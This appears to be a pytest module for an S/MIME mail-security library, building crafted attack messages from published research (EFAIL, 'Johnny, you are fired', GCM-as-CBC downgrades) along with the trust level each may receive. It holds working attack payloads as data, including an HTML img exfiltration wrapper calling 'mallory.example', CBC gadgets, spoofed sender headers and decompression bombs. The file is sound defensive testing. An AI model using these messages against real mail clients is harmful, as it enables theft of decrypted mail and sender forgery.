"""Published attacks on S/MIME in mail clients, each with a message made for it that goes through the whole pipeline.

Poddebniak et al., "Efail" (USENIX Security 2018); Müller et al., "Johnny, you are fired!" (USENIX Security 2019) and
"Re: What's up Johnny?" (ACNS 2019, covert content); Strenzke and Roth on AES-GCM decrypted as AES-CBC (RFC 9709) and
on signed attributes taken for a content; and structures that only cost. No message is judged higher than what is true
of it, nothing that it names is fetched, and what was decrypted within a larger message is a layer of its own.
"""

from __future__ import annotations

import base64
import zlib
from collections import Counter
from collections.abc import Callable, Iterable
from dataclasses import dataclass, replace
from datetime import UTC, datetime, timedelta
from typing import Any, NoReturn

import pytest

from mailsec.crypto import ECDSA_SHA256, RSA_SHA256, Certificate, MemoryKeyRing, PrivateKey, PublicKey
from mailsec.crypto.certificates import Extension
from mailsec.crypto.cms import (
    CertificateRecipient,
    Content,
    NewSigner,
    SharedKey,
    build_signed_data,
    compress,
    encode,
    encrypt,
    oids,
    parse_enveloped_data,
    parse_signed_data,
    sign,
)
from mailsec.crypto.cms.tlv import context as tagged
from mailsec.crypto.cms.tlv import read
from mailsec.crypto.issue import issue, make_authority, make_certificate, make_name
from mailsec.crypto.revocation.issue import Revoked, make_crl
from mailsec.hooks import Opener
from mailsec.hooks.manager import Registered
from mailsec.message import parse
from mailsec.pipeline import Report, Runner, Services
from mailsec.testing import make_resolver
from mailsec_smime.opening import CONTENT_TYPES, open_part

NOW = datetime.now(UTC).replace(microsecond=0)
START, END = NOW - timedelta(days=1), NOW + timedelta(days=30)
ALICE = b"From: Alice <alice@example.org>\r\nTo: alice@example.org\r\nSubject: Hello\r\nMIME-Version: 1.0\r\n"
MALLORY = ALICE.replace(b"Alice <alice@", b"Mallory <mallory@").replace(b"example.org>", b"example.net>")
TEXT = b"Content-Type: text/plain\r\n\r\nPay 10 to Bob.\r\n"
FALSE = b"Content-Type: text/plain\r\n\r\nPay 1000 to Mallory.\r\n"
SECRET = b"Content-Type: text/html\r\n\r\n<p>The launch is on Friday, at the usual place.</p>\r\n"
OPENS = b'Content-Type: text/html\r\n\r\n<img src="http://mallory.example/'
CLOSES = b'Content-Type: text/html\r\n\r\n">\r\n'
LEVELS = ("failed", "warning", "unauthenticated", "authenticated", "verified")


def multi(kind: str, *parts: bytes, more: bytes = b"", boundary: bytes = b"b") -> bytes:
    start = b"Content-Type: multipart/%b%b; boundary=%b\r\n\r\n" % (kind.encode(), more, boundary)
    return start + b"".join(b"--%b\r\n%b\r\n" % (boundary, one) for one in parts) + b"--%b--\r\n" % boundary


def armoured(octets: bytes, content_type: bytes) -> bytes:
    lines = base64.encodebytes(octets).replace(b"\n", b"\r\n")
    return b"Content-Type: %b\r\nContent-Transfer-Encoding: base64\r\n\r\n%b" % (content_type, lines)


def mime(octets: bytes, kind: bytes = b"enveloped-data") -> bytes:
    return armoured(octets, b"application/pkcs7-mime; smime-type=%b; name=smime.p7m" % kind)


def attached(message: bytes) -> bytes:
    return b"Content-Type: message/rfc822\r\n\r\n" + message


def info(oid: str, *members: bytes) -> bytes:
    """A ContentInfo with a SEQUENCE in it."""
    return encode.sequence(encode.oid(oid), encode.constructed(tagged(0), encode.sequence(*members)))


def members(octets: bytes) -> list[bytes]:
    """The members of the SEQUENCE in a ContentInfo."""
    _, wrapped = read(octets).children()
    return [bytes(one.raw) for one in next(wrapped.children()).children()]


@dataclass(frozen=True)
class World:
    """What the attacker has: messages by and to Alice, who reads here, and an identity of their own."""

    pki: Any

    def signature(self, entity: bytes, kind: str = "rsa", *, detached: bool = True) -> bytes:
        keys = self.pki.keyring(kind)
        return build_signed_data(
            Content((entity,)),
            detached=detached,
            keys=keys,
            identity=keys.identities()[0],
            scheme=RSA_SHA256,
            signing_time=datetime.now(UTC),
        )

    def clear(
        self, entity: bytes, kind: str = "rsa", *, signature: bytes | None = None, boundary: bytes = b"s"
    ) -> bytes:
        found = self.signature(entity, kind) if signature is None else signature
        second = armoured(found, b"application/pkcs7-signature; name=smime.p7s")
        more = b'; protocol="application/pkcs7-signature"; micalg=sha-256'
        return multi("signed", entity, second, more=more, boundary=boundary)

    @property
    def key(self) -> PrivateKey:
        """The attacker's key."""
        key = self.pki.alice["p256"].key
        assert isinstance(key, PrivateKey)
        return key

    def clear_by(self, issued: Any) -> bytes:
        """Signed by the attacker's key with certificates of any kind."""
        keys = MemoryKeyRing()
        identity = keys.add("somebody", issued.key, issued.certificates)
        signer = NewSigner(identity, ECDSA_SHA256)
        made = sign(Content((TEXT,)), (signer,), detached=True, keys=keys, signing_time=datetime.now(UTC))
        return self.clear(TEXT, signature=b"".join(made))

    def opaque(self, entity: bytes, kind: str = "rsa") -> bytes:
        return mime(self.signature(entity, kind, detached=False), b"signed-data")

    def enveloped(self, entity: bytes, cipher: str = "aes256-gcm", **how: Any) -> bytes:
        """Encrypted to Alice."""
        recipient = CertificateRecipient(self.pki.alice["rsa"].certificate)
        return b"".join(encrypt((entity,), [recipient], cipher=cipher, **how))

    def encrypted(self, entity: bytes, cipher: str = "aes256-gcm") -> bytes:
        return mime(self.enveloped(entity, cipher))

    def gadget(self, entity: bytes, wanted: bytes) -> bytes:
        """AES-CBC with the second block changed into what is wanted, whose place in the content is known."""
        octets = self.enveloped(entity, "aes256-cbc")
        encrypted = b"".join(parse_enveloped_data(octets).pieces)
        changed = bytes(a ^ b ^ c for a, b, c in zip(encrypted[:16], entity[16:32], wanted, strict=True))
        return mime(octets.replace(encrypted[:16], changed))

    def as_cbc(self, octets: bytes, encrypted: bytes, iv: bytes, *, derived: bool = False) -> bytes:
        """An AuthEnvelopedData sent again as EnvelopedData with AES-CBC, for the same recipients."""
        recipients = members(octets)[1]
        algorithm = encode.sequence(encode.oid(oids.CAPABILITIES["aes256-cbc"]), encode.octet_string(iv))
        if derived:
            algorithm = encode.sequence(encode.oid(oids.CEK_HKDF_SHA256), algorithm)
        content = encode.sequence(encode.oid(oids.DATA), algorithm, encode.primitive(tagged(0), encrypted))
        return info(oids.ENVELOPED_DATA, encode.integer(0), recipients, content)


Make = Callable[[World], bytes]


@dataclass(frozen=True)
class Attack:
    kind: str
    name: str
    level: str
    make: Make
    words: str
    layers: tuple[str, ...] | None


ATTACKS: list[Attack] = []


def attack(
    kind: str, name: str, level: str, words: str = "", layers: Iterable[str] | None = None
) -> Callable[[Make], Make]:
    """Puts a message into the table.

    Args:
        kind: the class that it is counted in.
        name: what is done.
        level: the level it has; no higher one would be true.
        words: what the verdict's sentence says.
        layers: what the layers were reached by, and in which part.
    """

    def enter(make: Make) -> Make:
        ATTACKS.append(Attack(kind, name, level, make, words, None if layers is None else tuple(layers)))
        return make

    return enter


# -- EFAIL ---------------------------------------------------------------------------------------------------

for cipher in ("aes256-gcm", "aes256-cbc"):
    for form in ("mixed", "alternative", "related"):

        @attack("EFAIL", f"direct exfiltration, multipart/{form}, {cipher}", "unauthenticated", layers=["2 encrypted"])
        def _exfiltration(w: World, form: str = form, cipher: str = cipher) -> bytes:
            return MALLORY + multi(form, OPENS, w.encrypted(SECRET, cipher), CLOSES)


@attack("EFAIL", "exfiltration around a signed and encrypted content", "warning", "nobody vouches for the rest")
def _(w: World) -> bytes:
    return ALICE + multi("mixed", OPENS, w.encrypted(w.opaque(SECRET)), CLOSES)


@attack("EFAIL", "CBC gadget: an image instead of text", "unauthenticated", layers=["1 encrypted"])
def _(w: World) -> bytes:
    return ALICE + w.gadget(SECRET, b'<img src="//e.x/')


@attack("EFAIL", "CBC gadget: another content type", "unauthenticated")
def _(w: World) -> bytes:
    return ALICE + w.gadget(TEXT, b"n\r\nX: y\r\n\r\nPay 9")


@attack("EFAIL", "CBC gadget within what is signed", "unauthenticated")
def _(w: World) -> bytes:
    return ALICE + w.gadget(w.opaque(TEXT), b'<img src="//e.x/')


@attack("EFAIL", "CBC gadget, signed by the attacker", "warning", "mallory@example.net")
def _(w: World) -> bytes:
    return ALICE + w.opaque(w.gadget(SECRET, b'<img src="//e.x/'), "mallory")


@attack(
    "EFAIL", "CBC gadget beside a good signature of the author", "warning", "part", layers=["1 signed", "2 encrypted"]
)
def _(w: World) -> bytes:
    return ALICE + multi("mixed", w.opaque(TEXT), w.gadget(SECRET, b'<img src="//e.x/'))


@attack("EFAIL", "GCM changed in one bit", "unauthenticated", layers=[])
def _(w: World) -> bytes:
    octets = w.enveloped(SECRET)
    encrypted = b"".join(parse_enveloped_data(octets).pieces)
    return ALICE + mime(
        octets.replace(encrypted[:1], bytes((encrypted[0] ^ 1,)), -1) if False else _flip(octets, encrypted)
    )


def _flip(octets: bytes, part: bytes) -> bytes:
    at = octets.index(part)
    return octets[:at] + bytes((octets[at] ^ 1,)) + octets[at + 1 :]


# -- one algorithm passed off as another ---------------------------------------------------------------------


@attack("downgrade", "GCM as CBC, with a block of the attacker's choice", "unauthenticated", layers=["1 encrypted"])
def _(w: World) -> bytes:
    """Who knows a block of the content knows the keystream, which CBC decrypts to the counter block."""
    octets = w.enveloped(TEXT)
    enveloped = parse_enveloped_data(octets)
    counter = enveloped.encryption.nonce + (2).to_bytes(4)
    first = b"".join(enveloped.pieces)[:16]
    stream = bytes(a ^ b for a, b in zip(first, TEXT, strict=False))
    wanted = b"\r\nPay Mallory.\r\x01"
    return ALICE + mime(w.as_cbc(octets, stream, bytes(a ^ b for a, b in zip(counter, wanted, strict=True))))


@attack("downgrade", "GCM as CBC, the content as it is", "unauthenticated")
def _(w: World) -> bytes:
    octets = w.enveloped(TEXT + b" " * (-len(TEXT) % 16))
    return ALICE + mime(w.as_cbc(octets, b"".join(parse_enveloped_data(octets).pieces), bytes(16)))


@attack("downgrade", "GCM as CBC, the key derived (RFC 9709)", "unauthenticated")
def _(w: World) -> bytes:
    octets = w.enveloped(TEXT, derived=True)
    return ALICE + mime(w.as_cbc(octets, bytes(160), bytes(16), derived=True))


@attack("downgrade", "GCM in an EnvelopedData, without its tag", "unauthenticated", layers=[])
def _(w: World) -> bytes:
    _, recipients, content, *_ = members(w.enveloped(TEXT))
    return ALICE + mime(info(oids.ENVELOPED_DATA, encode.integer(0), recipients, content))


@attack("downgrade", "CBC in an AuthEnvelopedData, with a tag of zeros", "unauthenticated", layers=[])
def _(w: World) -> bytes:
    _, recipients, content, *_ = members(w.enveloped(TEXT, "aes256-cbc"))
    tag = encode.octet_string(bytes(16))
    return ALICE + mime(info(oids.AUTH_ENVELOPED_DATA, encode.integer(0), recipients, content, tag))


@attack("downgrade", "GCM with a tag of 4 octets", "unauthenticated", layers=[])
def _(w: World) -> bytes:
    octets = w.enveloped(TEXT)
    enveloped = parse_enveloped_data(octets)
    short = encode.sequence(encode.octet_string(enveloped.encryption.nonce), encode.integer(4))
    algorithm = encode.sequence(encode.oid(oids.CAPABILITIES["aes256-gcm"]), short)
    encrypted = encode.primitive(tagged(0), b"".join(enveloped.pieces))
    content = encode.sequence(encode.oid(oids.DATA), algorithm, encrypted)
    tag = encode.octet_string(enveloped.tag[:4])
    return ALICE + mime(info(oids.AUTH_ENVELOPED_DATA, encode.integer(0), members(octets)[1], content, tag))


# -- decryption oracles: what a reader would be asked to answer ------------------------------------------------


@attack("oracle", "somebody else's encrypted message as the attacker's own", "unauthenticated", layers=["1 encrypted"])
def _(w: World) -> bytes:
    return MALLORY + w.encrypted(SECRET)


@attack("oracle", "an encrypted part below the attacker's question", "unauthenticated", layers=["2 encrypted"])
def _(w: World) -> bytes:
    return MALLORY + multi("mixed", FALSE, w.encrypted(SECRET))


@attack("oracle", "an encrypted part in a part in a part", "unauthenticated", layers=["1.2.1 encrypted"])
def _(w: World) -> bytes:
    inner = multi("related", w.encrypted(SECRET), boundary=b"i")
    return MALLORY + multi("mixed", multi("alternative", FALSE, inner, boundary=b"a"))


@attack("oracle", "an encrypted message attached", "unauthenticated", layers=[])
def _(w: World) -> bytes:
    return MALLORY + multi("mixed", FALSE, attached(ALICE + w.encrypted(SECRET)))


@attack("oracle", "an encrypted part signed by the attacker", "verified", "mallory@example.net")
def _(w: World) -> bytes:
    """That Mallory signed it all is true, and that is what is said: nothing of Alice."""
    return MALLORY + w.clear(multi("mixed", FALSE, w.encrypted(SECRET)), "mallory")


@attack("oracle", "encrypted again by the attacker", "unauthenticated", layers=["1 encrypted", "1 encrypted"])
def _(w: World) -> bytes:
    return MALLORY + w.encrypted(w.encrypted(SECRET))


# -- covert content ------------------------------------------------------------------------------------------

_HIDDEN = {
    "by a style": b'<div style="display:none">',
    "by a style sheet": b"<style>div ~ * { font-size: 0; color: white }</style><div>",
    "in a text field": b"<textarea hidden>",
    "in a comment": b"<!--",
    "in a frame": b'<iframe src="cid:secret"></iframe>',
    "far below": b"<pre>" + b"\n" * 2000,
}
for how, html in _HIDDEN.items():

    @attack("covert content", f"an encrypted part hidden {how}", "unauthenticated", layers=["2 encrypted"])
    def _hidden(w: World, html: bytes = html) -> bytes:
        start = b"Content-Type: text/html\r\n\r\n<p>What do you think?</p>" + html + b"\r\n"
        return MALLORY + multi("mixed", start, b"Content-ID: <secret>\r\n" + w.encrypted(SECRET))


@attack("covert content", "a signed part as the alternative that is not shown", "warning", "part")
def _(w: World) -> bytes:
    return ALICE + multi("alternative", FALSE, w.clear(TEXT))


@attack("covert content", "a signed part as a picture of a page", "warning", "part")
def _(w: World) -> bytes:
    page = b'Content-Type: text/html\r\n\r\n<p>Pay 1000 to Mallory.</p><iframe src="cid:s" hidden></iframe>\r\n'
    return ALICE + multi("related", page, b"Content-ID: <s>\r\n" + w.opaque(TEXT))


@attack("covert content", "a signed part as an attachment", "warning", "part")
def _(w: World) -> bytes:
    return ALICE + multi("mixed", FALSE, b"Content-Disposition: attachment\r\n" + w.opaque(TEXT))


@attack("covert content", "a signed part far below", "warning", "part")
def _(w: World) -> bytes:
    return ALICE + multi("mixed", FALSE + b"\r\n" * 3000, w.clear(TEXT))


# -- signature wrapping ----------------------------------------------------------------------------------------


@attack("wrapping", "what is signed below something else", "warning", "part")
def _(w: World) -> bytes:
    return ALICE + multi("mixed", FALSE, w.clear(TEXT))


@attack("wrapping", "what is signed above something else", "warning", "part")
def _(w: World) -> bytes:
    return ALICE + multi("mixed", w.clear(TEXT), FALSE)


@attack("wrapping", "a signature over a part of a signed part", "warning")
def _(w: World) -> bytes:
    return ALICE + w.clear(multi("mixed", FALSE, w.clear(TEXT)), "mallory", boundary=b"o")


@attack("wrapping", "a multipart/signed within the first part of another without signature", "warning", "only a part")
def _(w: World) -> bytes:
    return ALICE + w.clear(multi("mixed", FALSE, w.clear(TEXT)), signature=b"0\x00", boundary=b"o")


@attack("wrapping", "the nested message's signature", "unauthenticated")
def _(w: World) -> bytes:
    return ALICE + multi("mixed", FALSE, attached(ALICE + w.clear(TEXT)))


@attack("wrapping", "the nested message is all there is", "unauthenticated")
def _(w: World) -> bytes:
    return ALICE + attached(ALICE + w.clear(TEXT))


@attack("wrapping", "a third part behind the signature", "unauthenticated")
def _(w: World) -> bytes:
    return ALICE + w.clear(TEXT).replace(b"--s--", b"--s\r\n" + FALSE + b"\r\n--s--")


@attack("wrapping", "two boundaries, one within the other", "warning")
def _(w: World) -> bytes:
    return ALICE + w.clear(TEXT).replace(b"boundary=s", b"boundary=s; boundary=t")


@attack("wrapping", "signed in the header section of another type", "unauthenticated")
def _(w: World) -> bytes:
    return ALICE + w.clear(TEXT).replace(b"multipart/signed", b"multipart/mixed")


# -- "Johnny, you are fired": the structure --------------------------------------------------------------------


@attack("CMS", "the content is exchanged", "failed")
def _(w: World) -> bytes:
    return ALICE + w.clear(FALSE, signature=w.signature(TEXT))


@attack("CMS", "the content is exchanged within the structure", "failed")
def _(w: World) -> bytes:
    false = TEXT.replace(b"10 to Bob", b"99 to Eve")
    return ALICE + mime(w.signature(TEXT, detached=False).replace(TEXT, false), b"signed-data")


@attack("CMS", "a content within and another beside", "unauthenticated")
def _(w: World) -> bytes:
    return ALICE + w.clear(FALSE, signature=w.signature(TEXT, detached=False))


@attack("CMS", "the same content within and beside", "unauthenticated")
def _(w: World) -> bytes:
    return ALICE + w.clear(TEXT, signature=w.signature(TEXT, detached=False))


@attack("CMS", "no signer, detached", "unauthenticated")
def _(w: World) -> bytes:
    return ALICE + w.clear(TEXT, signature=_nobody(w, None))


@attack("CMS", "no signer, the content within", "unauthenticated")
def _(w: World) -> bytes:
    return ALICE + mime(_nobody(w, TEXT), b"signed-data")


def _nobody(w: World, content: bytes | None) -> bytes:
    inner = b"" if content is None else encode.constructed(tagged(0), encode.octet_string(content))
    return info(
        oids.SIGNED_DATA,
        encode.integer(1),
        encode.set_of(()),
        encode.sequence(encode.oid(oids.DATA), inner),
        encode.constructed(tagged(0), w.pki.alice["rsa"].certificate.der),
        encode.set_of(()),
    )


@attack("CMS", "several signers, one of them bad", "warning")
def _(w: World) -> bytes:
    return ALICE + w.clear(TEXT, signature=_joined(w.signature(TEXT), w.signature(FALSE, "both")))


@attack("CMS", "several signers, the author's is the bad one", "failed")
def _(w: World) -> bytes:
    return ALICE + w.clear(TEXT, signature=_joined(w.signature(FALSE), w.signature(TEXT, "mallory")))


def _joined(one: bytes, other: bytes) -> bytes:
    first, second = members(one), members(other)
    inside = [b"".join(bytes(read(each[at]).contents) for each in (first, second)) for at in (3, 4)]
    return info(
        oids.SIGNED_DATA,
        *first[:3],
        encode.constructed(tagged(0), inside[0]),
        encode.constructed(0x11, inside[1]),
    )


@attack("CMS", "signed attributes taken for the content", "unauthenticated")
def _(w: World) -> bytes:
    (signer,) = parse_signed_data(w.signature(TEXT)).signers
    (attributes,) = signer.signed_octets()
    certificate = w.pki.alice["rsa"].certificate
    sha256 = encode.sequence(encode.oid("2.16.840.1.101.3.4.2.1"))
    forged = encode.sequence(
        encode.integer(1),
        encode.sequence(certificate.issuer_der, encode.integer(certificate.serial)),
        sha256,
        encode.sequence(encode.oid(oids.RSA), encode.NULL),
        encode.octet_string(signer.signature),
    )
    content = encode.sequence(encode.oid(oids.DATA), encode.constructed(tagged(0), encode.octet_string(attributes)))
    octets = info(
        oids.SIGNED_DATA,
        encode.integer(1),
        encode.set_of((sha256,)),
        content,
        encode.constructed(tagged(0), certificate.der),
        encode.set_of((forged,)),
    )
    return ALICE + mime(octets, b"signed-data")


@attack("CMS", "a signed receipt taken for a message", "unauthenticated")
def _(w: World) -> bytes:
    keys = w.pki.keyring("rsa")
    signer = NewSigner(keys.identities()[0], RSA_SHA256)
    made = sign(
        Content((TEXT,)),
        (signer,),
        detached=False,
        keys=keys,
        signing_time=datetime.now(UTC),
        content_type=oids.RECEIPT,
    )
    return ALICE + mime(b"".join(made), b"signed-data")


@attack("CMS", "the message digest of nothing", "failed")
def _(w: World) -> bytes:
    return ALICE + w.clear(FALSE, signature=w.signature(b""))


@attack("CMS", "the author's certificate instead of the signer's", "failed")
def _(w: World) -> bytes:
    parts = members(w.signature(TEXT, "mallory"))
    mine = w.pki.alice["rsa"].certificate
    parts[3] = encode.constructed(tagged(0), mine.der)
    (signer,) = read(parts[-1]).children()
    fields = [bytes(one.raw) for one in signer.children()]
    fields[1] = encode.sequence(mine.issuer_der, encode.integer(mine.serial))
    parts[-1] = encode.set_of((encode.sequence(*fields),))
    return ALICE + w.clear(TEXT, signature=info(oids.SIGNED_DATA, *parts))


# -- "Johnny, you are fired": who signed -----------------------------------------------------------------------

_AUTHORS = {
    "another author": (b"From: mallory@example.net", "rsa", "warning"),
    "two From fields": (b"From: alice@example.org\r\nFrom: m@evil.example", "rsa", "warning"),
    "two From fields, the signer's last": (b"From: m@evil.example\r\nFrom: alice@example.org", "rsa", "warning"),
    "several authors, one certified": (b"From: alice@example.org, bob@example.org", "rsa", "warning"),
    "no From": (b"X-From: alice@example.org", "rsa", "warning"),
    "a group": (b"From: a: alice@example.org;", "rsa", "warning"),
    "Sender instead of From": (b"From: m@evil.example\r\nSender: alice@example.org", "rsa", "warning"),
    "Reply-To instead of From": (b"From: m@evil.example\r\nReply-To: alice@example.org", "rsa", "warning"),
    "the address as a display name": (b'From: "alice@example.org" <mallory@example.net>', "rsa", "warning"),
    "a check mark in the display name": (
        "From: ✔ Signed by Alice <mallory@example.net>".encode(),
        "rsa",
        "warning",
    ),
    "the address in an encoded word": (
        b"From: =?utf-8?q?alice=40example.org?= <mallory@example.net>",
        "rsa",
        "warning",
    ),
    "the address in a comment": (b"From: mallory@example.net (alice@example.org)", "rsa", "warning"),
    "the address in a route": (b"From: <@alice.example,@example.org:mallory@example.net>", "rsa", "warning"),
    "an address that goes on": (b"From: alice@example.org.evil.example", "rsa", "warning"),
    "a look-alike domain": ("From: alice@exаmple.org".encode(), "rsa", "warning"),
    "a certificate for several addresses, another author": (b"From: carol@example.org", "both", "warning"),
    "the author's address in a certificate's subject": (
        b"From: alice@example.org",
        "mallory-as-alice",
        "warning",
    ),
    "a certificate for nobody": (b"From: alice@example.org", "nobody", "warning"),
    "an expired certificate": (b"From: alice@example.org", "expired", "warning"),
    "a certificate for servers": (b"From: alice@example.org", "purpose", "warning"),
    "a certificate of one's own": (b"From: alice@example.org", "self", "warning"),
    "a key of 1024 bits": (b"From: alice@example.org", "weak", "warning"),
}
for name, (header, kind, level) in _AUTHORS.items():

    @attack("identity", name, level)
    def _author(w: World, header: bytes = header, kind: str = kind) -> bytes:
        return header + b"\r\nMIME-Version: 1.0\r\n" + w.clear(TEXT, kind)


@attack("identity", "a certificate for several addresses, the author's too", "verified", "alice@example.org")
def _(w: World) -> bytes:
    """True, and the sentence names the author's address, not the other."""
    return ALICE + w.clear(TEXT, "both")


@attack("identity", "a revoked certificate", "failed", "revoked")
def _(w: World) -> bytes:
    now = datetime.now(UTC).replace(microsecond=0)
    entry = Revoked(w.pki.alice["rsa"].certificate.serial, now - timedelta(hours=3), reason="keyCompromise")
    times = {"this_update": now - timedelta(hours=1), "next_update": now + timedelta(days=1)}
    parts = members(w.signature(TEXT))
    parts.insert(4, encode.constructed(tagged(1), make_crl(w.pki.authority, (entry,), **times)))
    return ALICE + w.clear(TEXT, signature=info(oids.SIGNED_DATA, *parts))


def _general_name(number: int, octets: bytes) -> Extension:
    return Extension("2.5.29.17", critical=False, value=encode.sequence(encode.primitive(tagged(number), octets)))


def _other_name(oid: str, text: str) -> Extension:
    value = encode.constructed(tagged(0), encode.primitive(0x0C, text.encode()))
    name = encode.constructed(tagged(0), encode.oid(oid), value)
    return Extension("2.5.29.17", critical=False, value=encode.sequence(name))


# Names in certificates that are no address of Alice's, or not as an address of hers may be written.
_NAMES: dict[str, Extension | None] = {
    "with NUL behind the address": _general_name(1, b"alice@example.org\0.evil.example"),
    "with NUL before another domain": _general_name(1, b"alice@example.org\0@evil.example"),
    "with a line end": _general_name(1, b"alice@example.org\r\n"),
    "with a space behind the address": _general_name(1, b"alice@example.org "),
    "of two addresses in one": _general_name(1, b"alice@example.org,mallory@example.net"),
    "in angle brackets": _general_name(1, b"Alice <alice@example.org>"),
    "with a comment": _general_name(1, b"alice(x)@example.org"),
    "as a URI": _general_name(6, b"mailto:alice@example.org"),
    "as a host": _general_name(2, b"alice@example.org"),
    "as a host of the domain": _general_name(2, b"example.org"),
    "as a principal of Microsoft": _other_name("1.3.6.1.4.1.311.20.2.3", "alice@example.org"),
    "as an ASCII address in UTF-8 (RFC 9598 section 3)": _other_name("1.3.6.1.5.5.7.8.9", "alice@example.org"),
    "as the common name": None,
}
for name, extension in _NAMES.items():

    @attack("identity", f"a certificate for a name {name}", "warning")
    def _named(w: World, extension: Extension | None = extension) -> bytes:
        extra = () if extension is None else (extension,)
        made = issue(
            w.pki.authority, not_before=START, not_after=END, key=w.key, subject="alice@example.org", extra=extra
        )
        return ALICE + w.clear_by(made)


@attack("identity", "a certificate that another end user issued", "warning", "not an authority")
def _(w: World) -> bytes:
    user = w.pki.alice["mallory"]
    return ALICE + w.clear_by(issue(user, "alice@example.org", not_before=START, not_after=END, key=w.key))


@attack("identity", "an authority that has the name of the true one", "warning")
def _(w: World) -> bytes:
    false = make_authority("Test Authority", not_before=START, not_after=END, key=w.key)
    return ALICE + w.clear_by(issue(false, "alice@example.org", not_before=START, not_after=END, key=w.key))


@attack("identity", "an authority for another domain only", "warning", "may not certify")
def _(w: World) -> bytes:
    bound = {"not_before": START, "not_after": END, "key": w.key}
    other = make_authority("Other", parent=w.pki.authority, permitted=("example.net",), **bound)
    return ALICE + w.clear_by(issue(other, "alice@example.org", **bound))


@attack("identity", "an authority that may not have another below it", "warning")
def _(w: World) -> bytes:
    bound = {"not_before": START, "not_after": END, "key": w.key}
    first = make_authority("First", parent=w.pki.authority, path_length=0, **bound)
    second = make_authority("Second", parent=first, **bound)
    return ALICE + w.clear_by(issue(second, "alice@example.org", **bound))


@attack("identity", "a certificate with a critical extension that nobody knows", "warning")
def _(w: World) -> bytes:
    extra = (Extension("1.2.3.4", critical=True, value=encode.NULL),)
    made = issue(w.pki.authority, "alice@example.org", not_before=START, not_after=END, key=w.key, extra=extra)
    return ALICE + w.clear_by(made)


@attack("identity", "a certificate that was changed", "warning")
def _(w: World) -> bytes:
    made = issue(w.pki.authority, "malic@example.org", not_before=START, not_after=END, key=w.key)
    false = Certificate.from_der(made.certificate.der.replace(b"malic@", b"alice@"))
    return ALICE + w.clear_by(replace(made, certificate=false))


@attack("identity", "a key for encryption only", "warning", "not for signing")
def _(w: World) -> bytes:
    bound = {"not_before": START, "not_after": END, "key": w.key}
    return ALICE + w.clear_by(issue(w.pki.authority, "alice@example.org", usage=("keyEncipherment",), **bound))


@attack("identity", "a certificate that is not valid yet", "warning", "not valid before")
def _(w: World) -> bytes:
    made = issue(w.pki.authority, "alice@example.org", not_before=END - timedelta(days=1), not_after=END, key=w.key)
    return ALICE + w.clear_by(made)


# -- structures that only cost ---------------------------------------------------------------------------------


def _deep(levels: int, *, indefinite: bool) -> bytes:
    octets = encode.oid(oids.DATA)
    for _ in range(levels):
        octets = b"\x30\x80" + octets + b"\0\0" if indefinite else encode.sequence(octets)
    return octets


_SHAPES: dict[str, Callable[[World], bytes]] = {
    "a length of 2^63": lambda _: b"\x30\x88\x7f" + b"\xff" * 7 + b"\x06\x09",
    "a length of 127 octets": lambda _: b"\x30\xff" + b"\x01" * 127,
    "an element longer than what holds it": lambda w: w.signature(TEXT).replace(
        b"\x30\x0b\x06\x09", b"\x30\x7f\x06\x09"
    ),
    "3000 levels": lambda _: _deep(3000, indefinite=False),
    "30,000 levels without lengths": lambda _: _deep(30_000, indefinite=True),
    "30,000 levels that never end": lambda _: b"\x30\x80" * 30_000,
    "a version of 100,000 octets": lambda w: info(
        oids.SIGNED_DATA, encode.primitive(2, b"\x01" * 100_000), *members(w.signature(TEXT))[1:]
    ),
    "600,000 elements": lambda _: info(oids.SIGNED_DATA, encode.integer(1), encode.set_of(()), encode.NULL * 600_000),
    "500 signers": lambda w: _many_signers(w, 500),
    "3000 certificates": lambda w: _many_certificates(w, 3000),
    "5000 recipients": lambda _: b"".join(
        encrypt((TEXT,), [SharedKey(b"%d" % number, bytes(32)) for number in range(5000)])
    ),
    "300 recipients that are all the reader": lambda w: _many_recipients(w, 300),
    "a password hashed two billion times": lambda _: _password(2_000_000_000),
    "a compressed bomb": lambda _: _compressed(zlib.compress(bytes(140 << 20))),
    "compressed 40 times": lambda _: _compressed_again(40),
    "compressed, and cut off": lambda _: _compressed(zlib.compress(TEXT * 100)[:-9]),
    "an RSA signature of 60,000 octets": lambda w: _with_signature(w, b"\x01" * 60_000),
}


def _many_signers(w: World, count: int) -> bytes:
    parts = members(w.signature(TEXT))
    return info(oids.SIGNED_DATA, *parts[:-1], encode.constructed(0x11, bytes(read(parts[-1]).contents) * count))


def _many_certificates(w: World, count: int) -> bytes:
    parts = members(w.signature(TEXT))
    parts[3] = encode.constructed(tagged(0), bytes(read(parts[3]).contents) * count)
    return info(oids.SIGNED_DATA, *parts)


def _many_recipients(w: World, count: int) -> bytes:
    parts = members(w.enveloped(TEXT))
    parts[1] = encode.constructed(0x11, bytes(read(parts[1]).contents) * count)
    return info(oids.AUTH_ENVELOPED_DATA, *parts)


def _password(iterations: int) -> bytes:
    inner = encode.sequence(encode.octet_string(bytes(8)), encode.integer(iterations))
    derivation = encode.oid(oids.PBKDF2) + inner
    cipher = encode.sequence(encode.oid(oids.CAPABILITIES["aes256-cbc"]), encode.octet_string(bytes(16)))
    recipient = encode.constructed(
        tagged(3),
        encode.integer(0),
        encode.constructed(tagged(0), derivation),
        encode.sequence(encode.oid(oids.PWRI_KEK), cipher),
        encode.octet_string(bytes(48)),
    )
    content = encode.sequence(encode.oid(oids.DATA), cipher, encode.primitive(tagged(0), bytes(16)))
    return info(oids.ENVELOPED_DATA, encode.integer(3), encode.set_of((recipient,)), content)


def _compressed(octets: bytes) -> bytes:
    content = encode.sequence(encode.oid(oids.DATA), encode.constructed(tagged(0), encode.octet_string(octets)))
    algorithm = encode.sequence(encode.oid(oids.ZLIB))
    return info(oids.COMPRESSED_DATA, encode.integer(0), algorithm, content)


def _compressed_again(times: int) -> bytes:
    entity = TEXT
    for _ in range(times):
        entity = mime(b"".join(compress((entity,))), b"compressed-data")
    return b"".join(compress((entity,)))


def _with_signature(w: World, signature: bytes) -> bytes:
    (signer,) = parse_signed_data(w.signature(TEXT)).signers
    parts = members(w.signature(TEXT))
    fields = [bytes(one.raw) for one in signer.element.children()]
    fields[-1] = encode.octet_string(signature)
    return info(oids.SIGNED_DATA, *parts[:-1], encode.set_of((encode.sequence(*fields),)))


for name, shape in _SHAPES.items():
    for place in ("opaque", "beside a content"):
        level = "failed" if name.startswith("an RSA signature") and place != "opaque" else "unauthenticated"

        @attack("hostile structures", f"{name}, {place}", level)
        def _costly(w: World, shape: Callable[[World], bytes] = shape, place: str = place) -> bytes:
            octets = shape(w)
            return ALICE + (mime(octets, b"signed-data") if place == "opaque" else w.clear(TEXT, signature=octets))


